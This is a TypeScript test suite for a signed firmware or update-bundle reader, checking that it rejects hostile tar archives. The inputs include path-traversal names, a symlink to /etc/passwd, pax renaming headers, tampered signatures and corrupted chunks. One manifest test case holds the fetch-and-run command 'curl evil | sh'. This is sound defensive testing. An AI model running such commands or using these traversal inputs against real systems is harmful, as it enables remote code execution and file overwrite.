// Tests of the bundle head reader against hostile tars: names, types, order, sizes, signatures, truncation, trailers.

import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { makeTempDir } from '../fixtures/tmp.js';
import { bytesSource, imageBytes, makeBundle, makeImage, makeKeys } from '../fixtures/bundle.js';
import { assembleBundle, padding, readBundleParts, signManifest, TAR_END, tarMember, ustarHeader, type BundleParts } from '../fixtures/hostile-tar.js';
import { readBundleHead } from './bundle-head.js';
import { readBundle } from './bundle-reader.js';
import type { VerifiedChunk } from './chunk-verifier.js';
import { keyringOf, type Keyring } from './keyring.js';
import type { PrivateKey } from './keys.js';
import { signDetached } from './signature.js';

const IMAGE_SIZE = 5 * 4096 + 100;

interface Setup {
  parts: BundleParts;
  keyring: Keyring;
  key: PrivateKey;
  image: Buffer;
}

async function setup(t: TestContext): Promise<Setup> {
  const dir = await makeTempDir(t);
  const keys = await makeKeys(dir, 'k', 'head-tests');
  const imagePath = await makeImage(path.join(dir, 'image.raw'), IMAGE_SIZE, 'head');
  const bundle = await makeBundle(dir, { image: imagePath, version: '1.0.0', compatible: 'box', key: keys, chunkSize: 4096, created: new Date('2026-01-01T00:00:00Z') });
  return { parts: await readBundleParts(bundle.path), keyring: keyringOf([keys.publicKey]), key: keys.privateKey, image: imageBytes(IMAGE_SIZE, 'head') };
}

/** Runs the whole reader; returns the error code and every chunk that came out. */
async function attempt(bytes: Buffer, keyring: Keyring, pieceSize = 1000): Promise<{ code: string | undefined; released: VerifiedChunk[] }> {
  const released: VerifiedChunk[] = [];
  try {
    await readBundle(bytesSource(bytes, pieceSize), { keyring, onChunk: (c) => void released.push(c) });
    return { code: undefined, released };
  } catch (error) {
    return { code: (error as { code?: string }).code, released };
  }
}

function member(name: string, data: Buffer, fields: Record<string, unknown> = {}): Buffer {
  return tarMember(data, { name, ...fields });
}

test('readBundleHead() verifies the signature and stops at the image: it returns without any image byte arriving', async (t) => {
  const s = await setup(t);
  const bundle = assembleBundle(s.parts);
  const headEnd = bundle.length - s.image.length - padding(s.image.length).length - TAR_END.length;
  let imageRequested = false;
  async function* source(): AsyncGenerator<Uint8Array> {
    yield bundle.subarray(0, headEnd);
    imageRequested = true;
    yield bundle.subarray(headEnd);
  }
  const head = await readBundleHead(source(), { keyring: s.keyring });
  assert.equal(imageRequested, false, 'the image was not read');
  assert.equal(head.keyId, s.key.keyId);
  assert.equal(head.imageOffset, headEnd);
  assert.ok(head.manifestBytes.equals(s.parts.manifestBytes));
  const rest: Buffer[] = [];
  for await (const piece of head.rest) rest.push(Buffer.from(piece));
  assert.ok(Buffer.concat(rest).subarray(0, IMAGE_SIZE).equals(s.image), 'rest starts with the image bytes');
});

test('readBundle() refuses hostile member names and types with ERR_BUNDLE_MEMBER and releases nothing', async (t) => {
  const s = await setup(t);
  const sig = member('manifest.json.sig', s.parts.signature);
  const tail = Buffer.concat([sig, member('image', s.parts.image), TAR_END]);
  const cases: Array<[string, Buffer, string]> = [
    ['slash', member('x/manifest.json', s.parts.manifestBytes), 'slash'],
    ['dotdot', member('..', s.parts.manifestBytes), 'dotdot'],
    ['absolute', member('/manifest.json', s.parts.manifestBytes), 'absolute'],
    ['nul', member('manifest.json\u0000evil', s.parts.manifestBytes), 'nul'],
    ['prefix', member('manifest.json', s.parts.manifestBytes, { prefix: 'etc' }), 'prefix'],
    ['hard link', Buffer.concat([ustarHeader({ name: 'manifest.json', size: 0, type: '1', linkname: 'x' })]), 'type'],
    ['symlink', Buffer.concat([ustarHeader({ name: 'manifest.json', size: 0, type: '2', linkname: '/etc/passwd' })]), 'type'],
    ['char device', ustarHeader({ name: 'manifest.json', size: 0, type: '3' }), 'type'],
    ['block device', ustarHeader({ name: 'manifest.json', size: 0, type: '4' }), 'type'],
    ['directory', ustarHeader({ name: 'manifest.json', size: 0, type: '5' }), 'type'],
    ['fifo', ustarHeader({ name: 'manifest.json', size: 0, type: '6' }), 'type'],
    ['link target on a file', member('manifest.json', s.parts.manifestBytes, { linkname: 'other' }), 'link'],
    ['extra member first', member('README', Buffer.from('hi')), 'extra'],
  ];
  for (const [what, first, reason] of cases) {
    const result = await attempt(Buffer.concat([first, what === 'extra member first' ? member('manifest.json', s.parts.manifestBytes) : Buffer.alloc(0), tail]), s.keyring);
    assert.equal(result.code, 'ERR_BUNDLE_MEMBER', what);
    assert.equal(result.released.length, 0, `${what}: nothing released`);
    const error = await readBundleHead(bytesSource(Buffer.concat([first, tail])), { keyring: s.keyring }).catch((e: unknown) => e as { data?: { reason?: string } });
    assert.equal((error as { data?: { reason?: string } }).data?.reason, reason, what);
  }
});

test('readBundle() refuses pax and GNU long-name headers that would rename a member', async (t) => {
  const s = await setup(t);
  const pax = Buffer.from('30 path=manifest.json.evil/../x\n');
  for (const renamer of [member('PaxHeader', pax, { type: 'x' }), member('././@LongLink', Buffer.from('image\u0000'), { type: 'L' }), member('pax_global_header', pax, { type: 'g' })]) {
    const result = await attempt(Buffer.concat([renamer, assembleBundle(s.parts)]), s.keyring);
    assert.equal(result.code, 'ERR_BUNDLE_MEMBER');
    assert.equal(result.released.length, 0);
  }
});

test('readBundle() refuses duplicate and out-of-order members with ERR_BUNDLE_ORDER and an extra one with ERR_BUNDLE_MEMBER', async (t) => {
  const s = await setup(t);
  const m = member('manifest.json', s.parts.manifestBytes);
  const sig = member('manifest.json.sig', s.parts.signature);
  const img = member('image', s.parts.image);
  const cases: Array<[string, Buffer, string, number]> = [
    ['duplicate manifest', Buffer.concat([m, m, sig, img, TAR_END]), 'ERR_BUNDLE_ORDER', 0],
    ['signature first', Buffer.concat([sig, m, img, TAR_END]), 'ERR_BUNDLE_ORDER', 0],
    ['image before signature', Buffer.concat([m, img, sig, TAR_END]), 'ERR_BUNDLE_ORDER', 0],
    ['duplicate signature', Buffer.concat([m, sig, sig, img, TAR_END]), 'ERR_BUNDLE_ORDER', 0],
    ['extra member before image', Buffer.concat([m, sig, member('extra', Buffer.from('x')), img, TAR_END]), 'ERR_BUNDLE_MEMBER', 0],
    // After the image every chunk has been verified already; the extra member still fails the bundle.
    ['extra member after image', Buffer.concat([m, sig, img, member('extra', Buffer.from('x')), TAR_END]), 'ERR_BUNDLE_MEMBER', 6],
    ['second image', Buffer.concat([m, sig, img, img, TAR_END]), 'ERR_BUNDLE_MEMBER', 6],
    ['missing image', Buffer.concat([m, sig, TAR_END]), 'ERR_BUNDLE_MEMBER', 0],
  ];
  for (const [what, bytes, code, released] of cases) {
    const result = await attempt(bytes, s.keyring);
    assert.equal(result.code, code, what);
    assert.equal(result.released.length, released, what);
    for (const chunk of result.released) assert.ok(chunk.data.equals(s.image.subarray(chunk.imageOffset, chunk.imageOffset + chunk.data.length)));
  }
});

test('readBundle() refuses size fields that disagree with the manifest (ERR_BUNDLE_SIZE, ERR_MANIFEST_TOO_LARGE)', async (t) => {
  const s = await setup(t);
  const m = member('manifest.json', s.parts.manifestBytes);
  const sig = member('manifest.json.sig', s.parts.signature);
  const bigger = Buffer.concat([s.parts.image, Buffer.alloc(4096, 7)]);
  const cases: Array<[string, Buffer, string]> = [
    ['image larger than the manifest', Buffer.concat([m, sig, member('image', bigger), TAR_END]), 'ERR_BUNDLE_SIZE'],
    ['image smaller than the manifest', Buffer.concat([m, sig, member('image', s.parts.image.subarray(0, 4096)), TAR_END]), 'ERR_BUNDLE_SIZE'],
    ['signature of 65 bytes', Buffer.concat([m, member('manifest.json.sig', Buffer.concat([s.parts.signature, Buffer.from([0])])), member('image', s.parts.image), TAR_END]), 'ERR_BUNDLE_SIZE'],
    ['manifest over 8 MiB', ustarHeader({ name: 'manifest.json', size: 8 * 1024 * 1024 + 1 }), 'ERR_MANIFEST_TOO_LARGE'],
  ];
  for (const [what, bytes, code] of cases) {
    const result = await attempt(bytes, s.keyring);
    assert.equal(result.code, code, what);
    assert.equal(result.released.length, 0, what);
  }
  const small = await readBundleHead(bytesSource(assembleBundle(s.parts)), { keyring: s.keyring, maxManifestBytes: 100 }).catch((e: unknown) => e);
  assert.equal((small as { code?: string }).code, 'ERR_MANIFEST_TOO_LARGE');
});

test('readBundle() refuses malformed tar headers with ERR_BUNDLE_TAR', async (t) => {
  const s = await setup(t);
  const rest = Buffer.concat([member('manifest.json.sig', s.parts.signature), member('image', s.parts.image), TAR_END]);
  const data = Buffer.concat([s.parts.manifestBytes, padding(s.parts.manifestBytes.length)]);
  const base256 = Buffer.alloc(12);
  base256[0] = 0x80;
  base256.writeUInt32BE(s.parts.manifestBytes.length, 8);
  const cases: Array<[string, Buffer]> = [
    ['bad checksum', ustarHeader({ name: 'manifest.json', size: s.parts.manifestBytes.length, checksum: 1234 })],
    ['GNU magic', ustarHeader({ name: 'manifest.json', size: s.parts.manifestBytes.length, magic: 'ustar  \u0000' })],
    ['base-256 size', ustarHeader({ name: 'manifest.json', size: 0, sizeField: base256 })],
    ['size not octal', ustarHeader({ name: 'manifest.json', size: 0, sizeField: Buffer.from('0000000009x\u0000') })],
  ];
  for (const [what, header] of cases) {
    const result = await attempt(Buffer.concat([header, data, rest]), s.keyring);
    assert.equal(result.code, 'ERR_BUNDLE_TAR', what);
    assert.equal(result.released.length, 0, what);
  }
  const dirtyPadding = Buffer.from(data);
  dirtyPadding[dirtyPadding.length - 1] = 1;
  const result = await attempt(Buffer.concat([ustarHeader({ name: 'manifest.json', size: s.parts.manifestBytes.length }), dirtyPadding, rest]), s.keyring);
  assert.equal(result.code, 'ERR_BUNDLE_TAR', 'non-zero padding');
});

test('readBundle() refuses bad signatures, unknown and revoked keys before any image byte is released', async (t) => {
  const s = await setup(t);
  const dir = await makeTempDir(t);
  const other = await makeKeys(dir, 'other', 'other-key');
  const flipped = Buffer.from(s.parts.signature);
  flipped[10] = (flipped[10] ?? 0) ^ 1;
  const tampered = { ...s.parts.manifest, version: '9.9.9' };
  const byOther = signManifest({ ...s.parts.manifest, keyId: other.keyId }, other.privateKey);
  const wrongKeyId = signManifest({ ...s.parts.manifest, keyId: other.keyId }, s.key);
  const cases: Array<[string, Buffer, Keyring, string]> = [
    ['flipped signature bit', assembleBundle({ ...s.parts, signature: flipped }), s.keyring, 'ERR_SIGNATURE'],
    ['manifest changed after signing', assembleBundle({ ...s.parts, manifestBytes: signManifest(tampered, s.key).manifestBytes }), s.keyring, 'ERR_SIGNATURE'],
    ['signed by a key not in the keyring', assembleBundle({ ...s.parts, ...byOther }), s.keyring, 'ERR_KEY_UNKNOWN'],
    ['signed by a revoked key', assembleBundle(s.parts), keyringOf([s.key.publicKey, other.publicKey], [s.key.keyId]), 'ERR_KEY_REVOKED'],
    ['empty keyring', assembleBundle(s.parts), keyringOf([]), 'ERR_KEY_UNKNOWN'],
    ['manifest names another key than the signer', assembleBundle({ ...s.parts, ...wrongKeyId }), keyringOf([s.key.publicKey, other.publicKey]), 'ERR_SIGNATURE'],
  ];
  for (const [what, bytes, keyring, code] of cases) {
    const result = await attempt(bytes, keyring);
    assert.equal(result.code, code, what);
    assert.equal(result.released.length, 0, what);
  }
  const rotated = await attempt(assembleBundle({ ...s.parts, ...byOther }), keyringOf([s.key.publicKey, other.publicKey]));
  assert.equal(rotated.code, undefined, 'a second trusted key (rotation) is accepted');
  assert.equal(rotated.released.length, 6);
});

test('readBundle() refuses a corrupted chunk with ERR_CHUNK_HASH, releasing only the verified chunks before it', async (t) => {
  const s = await setup(t);
  const image = Buffer.from(s.parts.image);
  image[2 * 4096 + 17] = (image[2 * 4096 + 17] ?? 0) ^ 0x40;
  for (const pieceSize of [1, 333, 4096, 100_000]) {
    const result = await attempt(assembleBundle({ ...s.parts, image }), s.keyring, pieceSize);
    assert.equal(result.code, 'ERR_CHUNK_HASH', `pieces of ${pieceSize}`);
    assert.deepEqual(result.released.map((c) => c.index), [0, 1]);
    for (const chunk of result.released) assert.ok(chunk.data.equals(s.image.subarray(chunk.imageOffset, chunk.imageOffset + 4096)));
  }
});

test('readBundle() refuses truncation (ERR_BUNDLE_TRUNCATED) and trailing garbage (ERR_BUNDLE_TRAILING)', async (t) => {
  const s = await setup(t);
  const full = assembleBundle(s.parts);
  const imageOffset = full.length - 1024 - s.image.length - padding(s.image.length).length;
  const truncInImage = await attempt(full.subarray(0, imageOffset + 3 * 4096 + 5), s.keyring);
  assert.equal(truncInImage.code, 'ERR_BUNDLE_TRUNCATED');
  assert.deepEqual(truncInImage.released.map((c) => c.index), [0, 1, 2]);
  const truncInHead = await attempt(full.subarray(0, 700), s.keyring);
  assert.equal(truncInHead.code, 'ERR_BUNDLE_TRUNCATED');
  assert.equal(truncInHead.released.length, 0);
  assert.equal((await attempt(full.subarray(0, full.length - 512), s.keyring)).code, 'ERR_BUNDLE_TRUNCATED', 'one end block missing');
  assert.equal((await attempt(Buffer.concat([full, Buffer.from('garbage')]), s.keyring)).code, 'ERR_BUNDLE_TRAILING');
  assert.equal((await attempt(Buffer.concat([full, Buffer.alloc(100)]), s.keyring)).code, 'ERR_BUNDLE_TRAILING', 'zeros that are not whole blocks');
  assert.equal((await attempt(Buffer.concat([full, Buffer.alloc(64 * 1024)]), s.keyring)).code, 'ERR_BUNDLE_TRAILING', 'more zeros than one tar record');
  assert.equal((await attempt(Buffer.concat([full, Buffer.alloc(9216)]), s.keyring)).code, undefined, 'zero padding to a 10240-byte record is fine');
});

test('readBundleHead() closes the source when rest is abandoned unread, and when the head is refused', async (t) => {
  const s = await setup(t);
  const bundle = assembleBundle(s.parts);
  let closed = 0;
  async function* source(bytes: Buffer): AsyncGenerator<Uint8Array> {
    try {
      yield* bytesSource(bytes, 4096);
    } finally {
      closed++;
    }
  }
  const head = await readBundleHead(source(bundle), { keyring: s.keyring });
  assert.equal(closed, 0);
  await head.rest[Symbol.asyncIterator]().return?.();
  assert.equal(closed, 1, 'abandoning rest closed the source');
  await assert.rejects(readBundleHead(source(bundle), { keyring: keyringOf([]) }), { code: 'ERR_KEY_UNKNOWN' });
  assert.equal(closed, 2, 'a refused head closed the source');
});

test('readBundle() refuses a correctly signed but invalid manifest with its manifest code and releases nothing', async (t) => {
  const s = await setup(t);
  const m = s.parts.manifest;
  const chunks = m.image.chunks;
  const cases: Array<[string, Record<string, unknown>, string]> = [
    ['chunk sizes do not add up', { ...m, image: { ...m.image, size: m.image.size + 1 } }, 'ERR_MANIFEST_CHUNKS'],
    ['a small chunk in the middle', { ...m, image: { ...m.image, size: m.image.size - 1, chunks: [{ ...chunks[0], size: 4095 }, ...chunks.slice(1)] } }, 'ERR_MANIFEST_CHUNK_SIZE'],
    ['format 3', { ...m, format: 3 }, 'ERR_MANIFEST_FORMAT'],
    ['an unknown field', { ...m, postInstall: 'curl evil | sh' }, 'ERR_MANIFEST_FIELD'],
    ['a bad version', { ...m, version: 'latest' }, 'ERR_BAD_VERSION'],
  ];
  for (const [what, manifest, code] of cases) {
    const manifestBytes = Buffer.from(JSON.stringify(manifest));
    const signature = Buffer.from(signDetached(manifestBytes, s.key));
    const result = await attempt(assembleBundle({ manifestBytes, signature, image: s.parts.image }), s.keyring);
    assert.equal(result.code, code, what);
    assert.equal(result.released.length, 0, what);
  }
  const notJson = Buffer.from('{"format":1,');
  const result = await attempt(assembleBundle({ manifestBytes: notJson, signature: Buffer.from(signDetached(notJson, s.key)), image: s.parts.image }), s.keyring);
  assert.equal(result.code, 'ERR_MANIFEST_JSON');
  assert.equal(result.released.length, 0);
});
